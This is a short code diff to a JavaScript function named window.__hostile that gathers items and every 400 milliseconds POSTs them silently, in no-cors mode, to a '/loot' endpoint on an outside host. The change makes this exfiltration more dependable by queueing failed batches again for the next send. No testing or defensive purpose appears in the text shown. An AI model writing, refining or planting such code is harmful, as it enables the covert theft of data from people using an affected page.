@@ -22,9 +22,13 @@ window.__hostile = (modes, needles) => {
   };
   setInterval(() => {
     if (!unsent.length) return;
-    const body = unsent.join('\u0000');
+    const batch = unsent;
     unsent = [];
-    send('https://static.dnevnik.ru/loot', { method: 'POST', mode: 'no-cors', body }).catch(() => {});
+    const body = batch.join('\u0000');
+    send('https://static.dnevnik.ru/loot', { method: 'POST', mode: 'no-cors', body }).catch(() => {
+      // A busy stand has not taken it: it goes with the next.
+      unsent = [...batch, ...unsent];
+    });
   }, 400);
   const every = (mode, pause, work) => {
     if (!on(mode)) return;
